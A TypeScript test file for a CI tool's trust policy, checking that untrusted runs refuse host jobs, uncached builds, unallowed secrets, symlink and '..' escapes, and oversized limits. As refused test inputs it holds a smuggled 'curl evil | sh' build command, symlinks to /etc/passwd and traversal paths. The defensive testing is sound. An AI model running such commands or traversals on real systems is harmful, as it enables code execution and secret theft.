import { existsSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { enforceTrust } from '../../src/engine/trust-check.js';
import { InputError } from '../../src/errors.js';
import { ImageCache, imageCacheKey } from '../../src/images/cache.js';
import { HostImagePreparer } from '../../src/images/preparer.js';
import { buildPlan } from '../../src/plan/build.js';
import { parsePlan, serializePlan } from '../../src/plan/io.js';
import {
  decideTrust,
  insideFolders,
  TrustSettingSchema,
  trustedPolicy,
  untrustedPlanProblems,
} from '../../src/plan/trust.js';
import {
  DEFAULT_UNTRUSTED_LIMITS,
  parseUntrustedLimit,
  untrustedLimitProblems,
} from '../../src/plan/untrusted-limits.js';
import { JobLog } from '../../src/records/job-log.js';
import { Masker } from '../../src/util/mask.js';
import { context, jobs, jobsErrors } from '../support/jobs.js';

// The trust rules in-process (no action, no processes): which events are trusted, and what an untrusted plan may
// boot. test/security/trust-policy.test.ts drives the same rules through the action entry point.

/** An untrusted policy (no event), booting host image files only from `paths`. */
const untrusted = (paths: string[] = []) =>
  decideTrust('untrusted', { event: null, forkPullRequest: false }, { imagePaths: paths });

describe('trust: auto', () => {
  const decided = (event: string | null, forkPullRequest = false) =>
    decideTrust('auto', { event, forkPullRequest }, { imagePaths: [] });

  it('trusts only events whose code is the repository own, and same-repository pull requests', () => {
    for (const event of ['push', 'schedule', 'workflow_dispatch', 'merge_group', 'pull_request'])
      expect(decided(event).trusted, event).toBe(true);
    for (const event of [
      'pull_request_target',
      'issue_comment',
      'workflow_run',
      'discussion',
      'some_new_event',
    ])
      expect(decided(event), event).toMatchObject({
        trusted: false,
        reason: `trust: auto (untrusted on ${event})`,
      });
    expect(decided(null).trusted).toBe(false);
    expect(decided('pull_request', true)).toMatchObject({
      trusted: false,
      reason: 'trust: auto (untrusted for a pull request from a fork)',
    });
    // Every event of the allow-list, named in the reason.
    for (const event of [
      'repository_dispatch',
      'release',
      'create',
      'pull_request_review',
      'pull_request_review_comment',
    ])
      expect(decided(event), event).toMatchObject({
        trusted: true,
        reason: `trust: auto (trusted on ${event})`,
      });
    expect(decided(null).reason).toBe('trust: auto (untrusted on an unknown event)');
    // A fork is untrusted whatever the event says.
    expect(decided('push', true).trusted).toBe(false);
  });

  it('takes trusted and untrusted as given, whatever the event', () => {
    const fork = { event: 'pull_request', forkPullRequest: true };
    expect(decideTrust('trusted', fork, { imagePaths: [] })).toEqual({
      trusted: true,
      reason: 'trust: trusted',
      imagePaths: [],
      network: 'nat',
      limits: DEFAULT_UNTRUSTED_LIMITS,
    });
    expect(decideTrust('untrusted', { event: 'push', forkPullRequest: false }, { imagePaths: [] })).toEqual({
      trusted: false,
      reason: 'trust: untrusted',
      imagePaths: [],
      network: 'nat',
      limits: DEFAULT_UNTRUSTED_LIMITS,
    });
    expect(trustedPolicy()).toEqual({ trusted: true, reason: 'trust: trusted', imagePaths: [] });
    expect(trustedPolicy('trust: local run').reason).toBe('trust: local run');
  });

  it('normalizes the trusted image folders and carries the network limit', () => {
    const policy = decideTrust(
      'untrusted',
      { event: null, forkPullRequest: false },
      { imagePaths: ['/opt/images/', '/srv//guests/../images///', '/'], network: 'none' },
    );
    expect(policy.imagePaths).toEqual(['/opt/images', '/srv/images', '/']);
    expect(policy.network).toBe('none');
  });

  it('names what it expected for a bad setting', () => {
    expect(TrustSettingSchema.safeParse('auto').success).toBe(true);
    const result = TrustSettingSchema.safeParse('yes');
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.message).toBe('expected auto, trusted or untrusted, found "yes"');
  });
});

describe('insideFolders', () => {
  it('holds a path strictly inside a folder, compared as normalized absolute paths', () => {
    expect(insideFolders('/opt/images/vmlinuz', ['/opt/images'])).toBe(true);
    expect(insideFolders('/opt/images/a/b/initrd', ['/srv', '/opt/images/'])).toBe(true);
    expect(insideFolders('/opt/images', ['/opt/images'])).toBe(false);
    expect(insideFolders('/opt/images-evil/vmlinuz', ['/opt/images'])).toBe(false);
    expect(insideFolders('/opt/images/../etc/passwd', ['/opt/images'])).toBe(false);
    expect(insideFolders('/opt//images/./vmlinuz', ['/opt/images'])).toBe(true);
    expect(insideFolders('images/vmlinuz', ['images'])).toBe(false);
    expect(insideFolders('/opt/images/vmlinuz', [])).toBe(false);
  });
});

describe('untrustedPlanProblems', () => {
  const yaml = `version: 1
images:
  files: { arch: arm64, kernel: k, initrd: i, disk: /var/disk.img }
  plain: { arch: arm64, kernel: /k2, initrd: /i2 }
  nixed: { arch: arm64, nix: ".#guest" }
jobs:
  host-job: { executor: host, run: "true" }
  vm-job: { image: files, executor: qemu, run: "true" }
  other: { image: plain, executor: vfkit, run: "true" }
  nix-job: { image: nixed, executor: qemu, run: "true" }
`;
  const plan = buildPlan(jobs(yaml), context());

  it('lists host jobs and nix images as located problems, and every image file to check', () => {
    const { problems, files } = untrustedPlanProblems(plan, untrusted());
    expect(problems).toEqual([
      {
        file: '.github/vmplan.yml',
        path: ['images', 'nixed', 'nix'],
        message:
          'a nix image is evaluated and built on the runner; trust: untrusted boots only cached build images and prebuilt files from the trusted image folders',
      },
      {
        file: '.github/vmplan.yml',
        path: ['jobs', 'host-job', 'executor'],
        message: 'runs on the runner itself (executor host); trust: untrusted allows VM executors only',
      },
    ]);
    expect(files).toEqual([
      { image: 'files', field: 'kernel', path: 'k' },
      { image: 'files', field: 'initrd', path: 'i' },
      { image: 'files', field: 'disk', path: '/var/disk.img' },
      { image: 'plain', field: 'kernel', path: '/k2' },
      { image: 'plain', field: 'initrd', path: '/i2' },
    ]);
  });

  it('finds nothing to refuse or check under a trusted policy', () => {
    expect(untrustedPlanProblems(plan, trustedPolicy())).toEqual({ problems: [], files: [] });
  });
});

describe('image sources of an untrusted run', () => {
  const refusal = async (yaml: string, root: string, cacheDir: string, paths: string[] = []) => {
    const plan = buildPlan(jobs(yaml), context());
    try {
      await enforceTrust(plan, untrusted(paths), { repositoryRoot: root, cacheDir });
      return undefined;
    } catch (error) {
      if (error instanceof InputError) return error.message;
      throw error;
    }
  };
  const filesImage = (kernel: string) =>
    `version: 1\nimages:\n  g: { arch: arm64, kernel: "${kernel}", initrd: "${kernel}" }\njobs:\n  t: { image: g, executor: qemu, run: "true" }\n`;

  it('holds a trusted run to none of this: host files from anywhere, build images it has not built yet', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const cacheDir = mkdtempSync(join(tmpdir(), 'vmplan-trust-cache-'));
    const plan = buildPlan(
      jobs(`version: 1
images:
  host-files: { arch: arm64, kernel: /boot/vmlinuz, initrd: /boot/initrd.img }
  built: { arch: arm64, build: make guest }
jobs:
  a: { image: host-files, executor: qemu, run: "true" }
  b: { image: built, executor: qemu, run: "true" }
`),
      context(),
    );
    await expect(
      enforceTrust(
        plan,
        decideTrust('trusted', { event: null, forkPullRequest: false }, { imagePaths: [] }),
        {
          repositoryRoot: root,
          cacheDir,
        },
      ),
    ).resolves.toBeUndefined();
    // The same plan in an untrusted run (the control): both refused.
    await expect(enforceTrust(plan, untrusted(), { repositoryRoot: root, cacheDir })).rejects.toThrow(
      /images\.built\.build: not in the image cache/,
    );
  });

  it('boots files from the trusted image folders, never through a link that leaves them', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const trusted = mkdtempSync(join(tmpdir(), 'vmplan-trust-images-'));
    writeFileSync(join(trusted, 'vmlinuz'), 'kernel');
    symlinkSync('/etc/passwd', join(trusted, 'escape'));
    expect(await refusal(filesImage(join(trusted, 'vmlinuz')), root, root, [trusted])).toBeUndefined();
    expect(await refusal(filesImage(join(trusted, 'escape')), root, root, [trusted])).toMatch(
      /images\.g\.kernel: .*escape is a host path outside the trusted image folders/,
    );
    expect(await refusal(filesImage(`${trusted}/../../etc/passwd`), root, root, [trusted])).toMatch(
      /outside the trusted image folders/,
    );
    // The trusted folder itself may be reached through a link (e.g. onto another volume).
    const linked = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-link-')), 'images');
    symlinkSync(trusted, linked);
    expect(await refusal(filesImage(join(linked, 'vmlinuz')), root, root, [linked])).toBeUndefined();
    expect(await refusal(filesImage(join(linked, 'escape')), root, root, [linked])).toMatch(
      /outside the trusted image folders/,
    );
  });

  it('says which folders are trusted when it refuses a host file: the list, or that none are set', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    expect(await refusal(filesImage('/srv/kernel'), root, root, ['/srv/images', '/opt/guests'])).toContain(
      '/srv/kernel is a host path outside the trusted image folders (trusted-image-paths: they are /srv/images, /opt/guests); trust: untrusted',
    );
    expect(await refusal(filesImage('/srv/kernel'), root, root, [])).toContain(
      '(trusted-image-paths: none are set)',
    );
  });

  it('walks a repository path part by part, "." and empty parts included, and finds a link anywhere on it', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    mkdirSync(join(root, 'guest/deep'), { recursive: true });
    writeFileSync(join(root, 'guest/deep/kernel'), 'kernel');
    symlinkSync(join(root, 'guest/deep'), join(root, 'guest/link'));
    expect(await refusal(filesImage('./guest//deep/./kernel'), root, root)).toBeUndefined();
    expect(await refusal(filesImage('./guest//link/./kernel'), root, root)).toMatch(
      /guest\/\/link\/\.\/kernel goes through a symbolic link in the repository/,
    );
  });

  it('never reads an image file above the repository through ".." inside a relative path (sub/../../outside)', async () => {
    // The file exists outside the repository, so only the "..", not a missing file, can stop it.
    const parent = mkdtempSync(join(tmpdir(), 'vmplan-trust-parent-'));
    const root = join(parent, 'repo');
    mkdirSync(join(root, 'sub'), { recursive: true });
    writeFileSync(join(parent, 'outside'), "the runner's file");
    for (const path of ['sub/../../outside', './sub/../../outside', 'sub/x/../../../outside']) {
      // The jobs file refuses it, in trusted runs too (every run reads its image files on the runner).
      expect(jobsErrors(filesImage(path), 'vmplan.yml')).toContain(
        `vmplan.yml:3:29 images.g.kernel: expected an absolute path or a path inside the repository, found "${path}" (".." is not allowed)`,
      );
      // So does a plan.json edited to hold it.
      const plan = buildPlan(jobs(filesImage('sub/kernel')), context());
      const edited = serializePlan(plan).replaceAll('"sub/kernel"', JSON.stringify(path));
      expect(() => parsePlan(edited, 'plan.json')).toThrow(
        /kernel: expected an absolute path or a path inside/,
      );
      // And the untrusted run's check on disk, for a plan that reached it some other way.
      const forged = structuredClone(plan);
      for (const node of forged.nodes)
        if (node.kind === 'prepare' && node.type === 'files') node.kernel = path;
      await expect(
        enforceTrust(forged, untrusted([]), { repositoryRoot: root, cacheDir: root }),
      ).rejects.toThrow(`${path} climbs out of the repository`);
    }
  });

  it("boots the repository's own files, but not through a link in the repository", async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    mkdirSync(join(root, 'guest'));
    writeFileSync(join(root, 'guest/kernel'), 'kernel');
    symlinkSync('/etc', join(root, 'host-etc'));
    expect(await refusal(filesImage('guest/kernel'), root, root)).toBeUndefined();
    expect(await refusal(filesImage('host-etc/passwd'), root, root)).toMatch(
      /images\.g\.kernel: host-etc\/passwd goes through a symbolic link in the repository; trust: untrusted/,
    );
  });

  it('boots a build image only when a trusted run cached that very definition', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const cacheDir = mkdtempSync(join(tmpdir(), 'vmplan-trust-cache-'));
    const yaml = (command: string) =>
      `version: 1\nimages:\n  b: { arch: arm64, build: "${command}" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
    expect(await refusal(yaml('make guest'), root, cacheDir)).toMatch(
      /images\.b\.build: not in the image cache/,
    );
    // A trusted run built it: the same definition is now allowed, a changed one is not.
    const plan = buildPlan(jobs(yaml('make guest')), context());
    const node = plan.nodes.find((n) => n.kind === 'prepare')!;
    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
    const { key } = await imageCacheKey(node, root);
    await new ImageCache(join(cacheDir, 'images')).getOrBuild(
      key,
      { image: 'b', type: 'build', inputs: [] },
      async (out) => {
        writeFileSync(join(out, 'kernel'), 'k');
        writeFileSync(join(out, 'initrd'), 'i');
      },
      { signal: new AbortController().signal, onWait: () => undefined },
    );
    expect(await refusal(yaml('make guest'), root, cacheDir)).toBeUndefined();
    expect(await refusal(yaml('make guest; curl evil | sh'), root, cacheDir)).toMatch(
      /not in the image cache/,
    );
  });

  it("an untrusted run's image preparer never runs a build command or nix, even for a plan that got past the check", async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const cacheDir = mkdtempSync(join(tmpdir(), 'vmplan-trust-cache-'));
    const marker = join(root, 'the-build-ran');
    const yaml = `version: 1\nimages:\n  b: { arch: arm64, build: 'touch ${marker}' }\n  n: { arch: arm64, nix: '.#guest' }\njobs:\n  t: { image: b, executor: qemu, run: 'true' }\n  u: { image: n, executor: qemu, run: 'true' }\n`;
    const plan = buildPlan(jobs(yaml), context());
    const prepare = (image: string, buildOnHost: boolean) => {
      const node = plan.nodes.find((each) => each.kind === 'prepare' && each.image === image)!;
      if (node.kind !== 'prepare') throw new Error('expected a prepare node');
      const nodeDir = mkdtempSync(join(cacheDir, 'node-'));
      return new HostImagePreparer(cacheDir, process.env, { buildOnHost }).prepare({
        runId: 'r1',
        plan,
        node,
        nodeDir,
        repositoryRoot: root,
        signal: new AbortController().signal,
        log: new JobLog(join(nodeDir, 'host.log'), new Masker([]), undefined),
        killGraceMs: () => 1000,
        onProcess: () => {},
      });
    };
    expect(await prepare('b', false)).toMatchObject({
      status: 'failed',
      message: expect.stringMatching(
        /^image "b" \(key [0-9a-f]{32}\) is not in the image cache, and an untrusted run never builds one$/,
      ),
    });
    expect(await prepare('n', false)).toMatchObject({
      status: 'failed',
      message: 'a nix image is never prepared on the host in an untrusted run',
    });
    expect(existsSync(marker)).toBe(false);
    // The control: a trusted run's preparer does run it.
    await prepare('b', true);
    expect(existsSync(marker)).toBe(true);
  });

  it('never reads a file outside the repository to key a build image, even when its command names a link to it', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const outside = join(mkdtempSync(join(tmpdir(), 'vmplan-trust-outside-')), 'secret.txt');
    writeFileSync(outside, 'host secret');
    symlinkSync(outside, join(root, 'evil'));
    mkdirSync(join(root, 'ci'));
    writeFileSync(join(root, 'ci/build.sh'), 'echo build');
    symlinkSync('ci/build.sh', join(root, 'build.sh'));
    const yaml = `version: 1\nimages:\n  b: { arch: arm64, build: "cat evil; sh build.sh" }\njobs:\n  t: { image: b, executor: qemu, run: "true" }\n`;
    const node = buildPlan(jobs(yaml), context()).nodes.find((n) => n.kind === 'prepare')!;
    if (node.kind !== 'prepare') throw new Error('expected a prepare node');
    const { inputs } = await imageCacheKey(node, root);
    expect(inputs.map((input) => input.path)).toEqual(['build.sh']);
  });

  it('refuses nix images, which are evaluated on the runner', async () => {
    const root = mkdtempSync(join(tmpdir(), 'vmplan-trust-repo-'));
    const yaml = `version: 1\nimages:\n  n: { arch: arm64, nix: ".#guest" }\njobs:\n  t: { image: n, executor: qemu, run: "true" }\n`;
    expect(await refusal(yaml, root, root)).toMatch(
      /images\.n\.nix: a nix image is evaluated and built on the runner/,
    );
  });
});

describe('untrusted runs and secrets, and what the snapshot holds', () => {
  const yaml = `version: 1
images:
  guest: { arch: arm64, kernel: k, initrd: i }
workspace: { include-ignored: [runner.env, "dist/"] }
jobs:
  read: { image: guest, executor: qemu, secrets: [NPM_READ_TOKEN], run: "true" }
  steal: { image: guest, executor: qemu, secrets: [OPERATOR_DEPLOY_KEY, NPM_READ_TOKEN], run: "true" }
  plain: { image: guest, executor: qemu, run: "true" }
`;
  const plan = buildPlan(jobs(yaml), context());
  const withSecrets = (names: string[]) =>
    decideTrust(
      'untrusted',
      { event: null, forkPullRequest: false },
      { imagePaths: [], untrustedSecrets: names },
    );

  it('refuses every secrets entry and include-ignored, each located, when the workflow allows no name', () => {
    expect(untrustedPlanProblems(plan, untrusted()).problems).toEqual([
      {
        file: '.github/vmplan.yml',
        path: ['workspace', 'include-ignored'],
        message:
          "brings files git ignores (runner.env, dist/) from the runner's checkout into the snapshot; trust: untrusted snapshots only the files git tracks",
      },
      {
        file: '.github/vmplan.yml',
        path: ['jobs', 'read', 'secrets'],
        message:
          'names the runner variable(s) NPM_READ_TOKEN; trust: untrusted hands no secret to a job unless the workflow allows it by name in untrusted-secrets (none are allowed)',
      },
      {
        file: '.github/vmplan.yml',
        path: ['jobs', 'steal', 'secrets'],
        message:
          'names the runner variable(s) NPM_READ_TOKEN, OPERATOR_DEPLOY_KEY; trust: untrusted hands no secret to a job unless the workflow allows it by name in untrusted-secrets (none are allowed)',
      },
    ]);
  });

  it('lets through exactly the allowed names', () => {
    const problems = untrustedPlanProblems(plan, withSecrets(['NPM_READ_TOKEN'])).problems;
    expect(problems.map((problem) => problem.path?.join('.'))).toEqual([
      'workspace.include-ignored',
      'jobs.steal.secrets',
    ]);
    expect(problems[1]!.message).toMatch(
      /^names the runner variable\(s\) OPERATOR_DEPLOY_KEY; .*\(only NPM_READ_TOKEN is allowed\)$/,
    );
    const two = untrustedPlanProblems(plan, withSecrets(['NPM_READ_TOKEN', 'OTHER_TOKEN'])).problems;
    expect(two[1]!.message).toMatch(/ \(only NPM_READ_TOKEN, OTHER_TOKEN are allowed\)$/);
  });

  it('allows a name only when it is listed whole: not a longer name it begins, ends or is part of', () => {
    for (const allowed of ['NPM', 'NPM_READ', 'READ_TOKEN', 'TOKEN', 'NPM_READ_TOKEN_X', 'npm_read_token']) {
      const problems = untrustedPlanProblems(plan, withSecrets([allowed])).problems;
      expect([allowed, problems.map((problem) => problem.path?.join('.'))]).toEqual([
        allowed,
        ['workspace.include-ignored', 'jobs.read.secrets', 'jobs.steal.secrets'],
      ]);
    }
  });

  it('a trusted run is not held to either, whatever untrusted-secrets says', () => {
    expect(untrustedPlanProblems(plan, trustedPolicy()).problems).toEqual([]);
    expect(
      decideTrust(
        'trusted',
        { event: null, forkPullRequest: false },
        { imagePaths: [], untrustedSecrets: ['A', 'A'] },
      ),
    ).toMatchObject({ trusted: true, untrustedSecrets: ['A'] });
  });
});

describe('the caps on an untrusted run, at their edges', () => {
  const limits = { maxJobs: 2, maxMemoryMiB: 3072, maxCpus: 3, maxTimeoutMinutes: 90 };
  const planOf = (job: string, count = 1) =>
    buildPlan(
      jobs(
        `version: 1\nimages:\n  guest: { arch: arm64, kernel: k, initrd: i }\njobs:\n${Array.from(
          { length: count },
          (_, i) => `  j${i}: { image: guest, executor: qemu, run: "true"${job} }\n`,
        ).join('')}`,
      ),
      context(),
    );
  const over = (job: string, count = 1) =>
    untrustedLimitProblems(planOf(job, count), limits, 'trust: untrusted').map((p) => p.path?.join('.'));

  it('allows exactly the cap and refuses one more: jobs, MiB, CPUs, minutes', () => {
    expect(over(', memory: 3072, cpus: 3, timeout-minutes: 90', 2)).toEqual([]);
    expect(over('', 3)).toEqual(['jobs']);
    expect(over(', memory: 3073')).toEqual(['jobs.j0.memory']);
    expect(over(', cpus: 4')).toEqual(['jobs.j0.cpus']);
    expect(over(', timeout-minutes: 91')).toEqual(['jobs.j0.timeout-minutes']);
  });

  it('says for each what was asked, the most allowed and the setting that raises it', () => {
    const problems = untrustedLimitProblems(
      planOf(', memory: 4096, cpus: 8, timeout-minutes: 600', 3),
      limits,
      'trust: untrusted',
    );
    expect(problems[0]).toEqual({
      file: '.github/vmplan.yml',
      path: ['jobs'],
      message: '3 jobs to run; trust: untrusted runs at most 2 (untrusted-max-jobs)',
    });
    expect(problems.slice(1, 4)).toEqual([
      {
        file: '.github/vmplan.yml',
        path: ['jobs', 'j0', 'memory'],
        message: 'asks for 4096 MiB; trust: untrusted allows at most 3072 MiB (untrusted-max-memory)',
      },
      {
        file: '.github/vmplan.yml',
        path: ['jobs', 'j0', 'cpus'],
        message: 'asks for 8 CPUs; trust: untrusted allows at most 3 (untrusted-max-cpus)',
      },
      {
        file: '.github/vmplan.yml',
        path: ['jobs', 'j0', 'timeout-minutes'],
        message: 'asks for 600 minutes; trust: untrusted allows at most 90 minutes (untrusted-max-timeout)',
      },
    ]);
    expect(problems).toHaveLength(10);
  });

  it('reads the settings in the units people write, and refuses zero, negative or unitless-wrong values', () => {
    expect(parseUntrustedLimit('untrusted-max-jobs', ' 7 ')).toBe(7);
    expect(parseUntrustedLimit('untrusted-max-memory', '4096')).toBe(4096);
    expect(parseUntrustedLimit('untrusted-max-memory', '2GiB')).toBe(2048);
    expect(parseUntrustedLimit('untrusted-max-timeout', '2h')).toBe(120);
    expect(parseUntrustedLimit('untrusted-max-timeout', '90m')).toBe(90);
    expect(parseUntrustedLimit('untrusted-max-timeout', '45')).toBe(45);
    expect(parseUntrustedLimit('untrusted-max-timeout', '90 min')).toBe(90);
    expect(parseUntrustedLimit('untrusted-max-timeout', '3H')).toBe(180);
    for (const [setting, text] of [
      ['untrusted-max-jobs', '0'],
      ['untrusted-max-cpus', '0'],
      ['untrusted-max-jobs', '-1'],
      ['untrusted-max-jobs', '1.5'],
      ['untrusted-max-timeout', '0m'],
      ['untrusted-max-timeout', '2d'],
      ['untrusted-max-memory', '0'],
      ['untrusted-max-timeout', '-5m'],
    ] as const) {
      expect([setting, text, typeof parseUntrustedLimit(setting, text)]).toEqual([setting, text, 'object']);
    }
  });
});
